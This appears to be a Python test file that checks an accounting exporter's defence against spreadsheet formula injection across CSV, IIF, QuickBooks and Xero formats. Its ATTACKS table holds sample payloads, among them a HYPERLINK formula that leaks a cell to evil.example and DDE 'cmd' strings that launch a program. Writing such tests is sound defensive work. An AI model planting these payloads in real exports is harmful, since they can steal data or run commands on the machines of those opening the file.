"""Spreadsheet formula injection: a text cell of any export that a spreadsheet would read
as a formula (it starts with = + - @, a tab or a carriage return, or a full-width = + - @)
is written with a single quote in front, as OWASP recommends; amounts and dates are
written as they are, so a negative amount is still -12.50."""

import csv
import io
from collections import Counter
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from accounting.exporters.base import money
from accounting.exporters.downloads import CHECKLIST_COLUMNS, write_checklist
from accounting.gl import GLLine, Posting
from tests.exporters import samples
from tests.exporters.helpers import net, render
from tests.exporters.strategies import awkward_text, batches

# What a spreadsheet takes for the start of a formula (the test's own statement of it).
FORMULA_STARTS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")

ATTACKS = {
    "memo": '=HYPERLINK("https://evil.example/?leak="&A1,"Pay now")',
    "company": "+cmd|' /C calc'!A0",
    "account_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "account_number": "-2+3+cmd|' /C calc'!A0",
    "reference": "=1+2",
    "number": "\t=1+2",
    "tax_code": "\uff1dSUM(1)",
    "batch": "=BATCH()",
}

BILL_CONTROL = {"accounts_payable", "reimbursement"}
INVOICE_CONTROL = {"accounts_receivable"}


class Layout:
    """An export format with one set of options: the kinds of record it takes, its date
    columns, its amount columns and the amounts they must carry; every other column is
    text."""

    def __init__(self, format, options, kinds, dates, amount_columns, amounts):
        self.format, self.options, self.kinds = format, options, kinds
        self.amount_columns = frozenset(amount_columns)
        self.not_text = frozenset(dates) | self.amount_columns
        self.amounts = amounts

    def cells(self, text: str) -> list[dict[str, str]]:
        """Every data row as {column: cell}; IIF rows keyed by their header row's names."""
        if self.format != "iif":
            rows = list(csv.reader(io.StringIO(text, newline="")))
            return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
        lines = [line.split("\t") for line in text.split("\r\n")[:-1]]
        headers = {line[0][1:]: line for line in lines[:3]}
        return [dict(zip(headers[line[0]], line, strict=True)) for line in lines[3:]]


def _lines(postings, control=frozenset()):
    return [
        line for posting in postings for line in posting.lines if line.account_type not in control
    ]


LAYOUTS = {
    "gl_journal_csv": Layout(
        "gl_journal_csv",
        {},
        ("invoice", "expense", "freight", "product"),
        ("date",),
        ("debit", "credit"),
        lambda postings: Counter(
            [("debit", money(line.debit)) for line in _lines(postings)]
            + [("credit", money(line.credit)) for line in _lines(postings)]
        ),
    ),
    "iif": Layout(
        "iif",
        {},
        ("invoice", "expense", "freight", "product"),
        ("DATE", "DUEDATE"),
        ("AMOUNT",),
        lambda postings: Counter(("AMOUNT", money(net(line))) for line in _lines(postings)),
    ),
    "iif_general_journal": Layout(
        "iif",
        {"expenses_as": "general_journal"},
        ("invoice", "expense", "freight", "product"),
        ("DATE", "DUEDATE"),
        ("AMOUNT",),
        lambda postings: Counter(("AMOUNT", money(net(line))) for line in _lines(postings)),
    ),
    "quickbooks_online_csv_journal": Layout(
        "quickbooks_online_csv",
        {},
        ("invoice", "expense", "freight", "product"),
        ("Journal Date",),
        ("Debits", "Credits"),
        lambda postings: Counter(
            ("Debits", money(net(line))) if net(line) > 0 else ("Credits", money(-net(line)))
            for line in _lines(postings)
            if net(line)
        ),
    ),
    "quickbooks_online_csv_invoice": Layout(
        "quickbooks_online_csv",
        {"qbo_invoices_as": "invoice"},
        ("invoice",),
        ("Invoice date", "Due date"),
        ("Item Rate", "Item Amount"),
        lambda postings: Counter(
            (column, money(-net(line)))
            for line in _lines(postings, INVOICE_CONTROL | {"sales_tax"})
            for column in ("Item Rate", "Item Amount")
        ),
    ),
    "xero_csv_sales": Layout(
        "xero_csv",
        {},
        ("invoice",),
        ("InvoiceDate", "DueDate"),
        ("UnitAmount",),
        lambda postings: Counter(
            ("UnitAmount", money(-net(line))) for line in _lines(postings, INVOICE_CONTROL)
        ),
    ),
    "xero_csv_bills": Layout(
        "xero_csv",
        {},
        ("expense", "freight", "product"),
        ("InvoiceDate", "DueDate"),
        ("UnitAmount",),
        lambda postings: Counter(
            ("UnitAmount", money(net(line))) for line in _lines(postings, BILL_CONTROL)
        ),
    ),
}


def check_export(layout: Layout, postings, *, batch_identifier: str, options: dict) -> list:
    """Render the postings; no text cell starts a formula and the amount columns hold
    exactly the amounts sent. Returns the rows for further checks."""
    text = render(layout.format, postings, options, batch_identifier=batch_identifier)
    rows = layout.cells(text)
    for row in rows:
        for column, cell in row.items():
            if column not in layout.not_text:
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
    amounts = Counter(
        (column, cell)
        for row in rows
        for column, cell in row.items()
        if column in layout.amount_columns and cell != ""
    )
    expected = layout.amounts(postings)
    assert amounts == expected  # written exactly as money() writes them
    assert Counter({(column, Decimal(cell)): n for (column, cell), n in amounts.items()}) == (
        Counter({(column, Decimal(cell)): n for (column, cell), n in expected.items()})
    )
    return rows


def attacked(posting: Posting) -> Posting:
    """The posting with a formula in every text field."""
    header = posting.header._replace(
        reference=ATTACKS["reference"],
        number=ATTACKS["number"],
        company=ATTACKS["company"],
        tax_code=ATTACKS["tax_code"] if posting.header.tax_code else "",
    )
    lines = tuple(
        line._replace(
            account_name=ATTACKS["account_name"],
            account_number=ATTACKS["account_number"],
            memo=ATTACKS["memo"],
        )
        for line in posting.lines
    )
    return Posting(header, lines)


def layout_options(layout: Layout, text: str) -> dict:
    """The layout's options, with every text option also carrying `text`."""
    return {**layout.options, "xero_tax_type": text, "currency": text}


@pytest.mark.parametrize("name", LAYOUTS)
def test_formulas_in_every_text_field_are_written_as_text(name):
    layout = LAYOUTS[name]
    postings = [attacked(p) for p in samples.ALL_KINDS if p.header.type in layout.kinds]
    options = layout_options(layout, ATTACKS["batch"])
    rows = check_export(layout, postings, batch_identifier=ATTACKS["batch"], options=options)
    written = {cell for row in rows for cell in row.values()}
    # The text is kept, behind the quote that makes it text; tabs flattened as before.
    assert "'" + ATTACKS["memo"] in written
    if layout.format == "gl_journal_csv":
        assert "'" + ATTACKS["batch"] in written and "'" + ATTACKS["reference"] in written
        assert "'" + ATTACKS["account_number"] in written
        assert "'" + ATTACKS["account_name"] in written
    else:
        assert "'" + ATTACKS["company"] in written
        assert "'" + ATTACKS["number"].strip() in written
    if name == "quickbooks_online_csv_invoice":
        assert "'" + ATTACKS["tax_code"] in written
    if layout.format == "xero_csv":
        assert "'" + ATTACKS["batch"] in written  # the tax type and currency options


def test_negative_amounts_stay_numbers():
    (invoice,) = (
        posting for posting in map(attacked, samples.ALL_KINDS) if posting.header.type == "invoice"
    )
    iif = LAYOUTS["iif"].cells(render("iif", [invoice]))
    assert [row["AMOUNT"] for row in iif if "AMOUNT" in row] == [
        "1623.75",
        "-1000.00",
        "-500.00",
        "-123.75",
    ]
    discount = Posting(
        invoice.header,
        (
            invoice.lines[0]._replace(debit=Decimal("1611.25")),
            *invoice.lines[1:],
            GLLine("4000", "=Discount", "income", Decimal("12.50"), Decimal("0.00"), "-10%"),
        ),
    )
    xero = LAYOUTS["xero_csv_sales"].cells(render("xero_csv", [discount]))
    assert [row["UnitAmount"] for row in xero][-1] == "-12.50"
    assert xero[-1]["Description"] == "'-10%"
    qbo = LAYOUTS["quickbooks_online_csv_invoice"].cells(
        render("quickbooks_online_csv", [discount], {"qbo_invoices_as": "invoice"})
    )
    assert (qbo[-1]["Item Rate"], qbo[-1]["Item Amount"]) == ("-12.50", "-12.50")
    assert qbo[-1]["Item(Product/Service)"] == "'=Discount"


# Text that often starts a formula, after spaces or control characters that the writers
# flatten, or in its full-width form; and any other awkward text.
formula_text = st.one_of(
    st.tuples(
        st.sampled_from(
            [*FORMULA_STARTS, " =", "  +", "\n-", "\x0b@", "\t\t=", " \uff1d", "'=", '"=', ""]
        ),
        awkward_text,
    ).map("".join),
    awkward_text,
)


@st.composite
def attacked_batches(draw, kinds):
    postings = draw(batches(kinds=kinds, max_size=4))
    result = []
    for posting in postings:
        header = posting.header._replace(
            reference=draw(formula_text),
            number=draw(formula_text),
            company=draw(formula_text),
            tax_code=draw(formula_text.filter(bool)) if posting.header.tax_code else "",
        )
        lines = tuple(
            line._replace(
                account_name=draw(formula_text),
                account_number=draw(formula_text),
                memo=draw(formula_text),
            )
            for line in posting.lines
        )
        result.append(Posting(header, lines))
    return result


@st.composite
def export_cases(draw):
    name = draw(st.sampled_from(sorted(LAYOUTS)))
    layout = LAYOUTS[name]
    postings = draw(attacked_batches(layout.kinds))
    options = dict(layout.options)
    if draw(st.booleans()):
        options |= {"xero_tax_type": draw(formula_text), "currency": draw(formula_text)}
    if layout.options.get("qbo_invoices_as") == "invoice":
        numbers = {line.account_number for posting in postings for line in posting.lines}
        codes = {posting.header.tax_code for posting in postings}
        options["qbo_items"] = {number: draw(formula_text) for number in numbers}
        options["qbo_tax_codes"] = {code: draw(formula_text) for code in codes}
    return layout, postings, draw(formula_text), options


@settings(max_examples=400, deadline=None)
@given(export_cases())
def test_no_text_cell_of_any_export_starts_a_formula_and_amounts_are_exact(case):
    layout, postings, batch_identifier, options = case
    check_export(layout, postings, batch_identifier=batch_identifier, options=options)


@st.composite
def checklist_rows(draw):
    return [
        {
            "reference": draw(formula_text),
            "type": draw(st.sampled_from(["invoice", "expense", "freight", "product"])),
            "id": draw(st.integers(min_value=1, max_value=2**31 - 1)),
            "batch_identifier": draw(formula_text),
            "sent_at": draw(st.datetimes()),
            "external_reference": draw(st.one_of(st.none(), formula_text)),
            "removal": draw(st.one_of(st.none(), st.just("confirmed"), formula_text)),
        }
        for _ in range(draw(st.integers(min_value=0, max_value=5)))
    ]


@settings(max_examples=200, deadline=None)
@given(checklist_rows())
def test_no_text_cell_of_the_checklist_starts_a_formula(rows):
    out = io.StringIO(newline="")
    assert write_checklist(rows, out) == len(rows)
    header, *written = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert header == list(CHECKLIST_COLUMNS)
    assert len(written) == len(rows)
    for row, cells in zip(rows, written, strict=True):
        record = dict(zip(header, cells, strict=True))
        assert record["id"] == str(row["id"]) and record["sent_at"] == row["sent_at"].isoformat()
        for column in ("record", "type", "original_batch", "external_reference", "removal"):
            assert not record[column].startswith(FORMULA_STARTS), (column, record[column])
